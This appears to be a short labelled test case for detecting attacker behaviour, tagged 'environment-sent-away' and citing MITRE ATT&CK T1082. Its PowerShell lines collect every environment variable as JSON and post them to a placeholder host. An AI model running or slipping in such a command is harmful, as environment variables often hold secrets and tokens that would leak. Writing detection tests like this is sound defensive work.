# expect: environment-sent-away | source: MITRE ATT&CK T1082
$all = Get-ChildItem Env: | ConvertTo-Json
Invoke-RestMethod -Method Post -Uri http://files.example.invalid/in -Body $all
